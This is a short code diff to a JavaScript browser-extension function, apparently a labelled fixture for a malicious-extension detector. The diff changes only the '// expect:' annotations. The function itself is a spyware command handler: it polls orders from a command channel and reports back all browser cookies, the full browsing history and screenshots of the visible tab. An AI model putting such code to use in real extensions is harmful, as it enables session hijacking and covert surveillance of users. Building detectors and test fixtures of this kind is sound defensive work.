@@ -5,14 +5,14 @@ async function poll() {
   for (const order of orders) {
     switch (order.name) {
       case 'get_cookies':
-        // expect: command-channel
+        // expect: command-channel, session-cookies-taken
         await report(order, await chrome.cookies.getAll({}));
         break;
       case 'get_history':
         await report(order, await chrome.history.search({ text: '', startTime: 0 }));
         break;
       case 'screen':
-        await report(order, await chrome.tabs.captureVisibleTab());
+        await report(order, await chrome.tabs.captureVisibleTab()); // expect: screen-watched
         break;
     }
   }
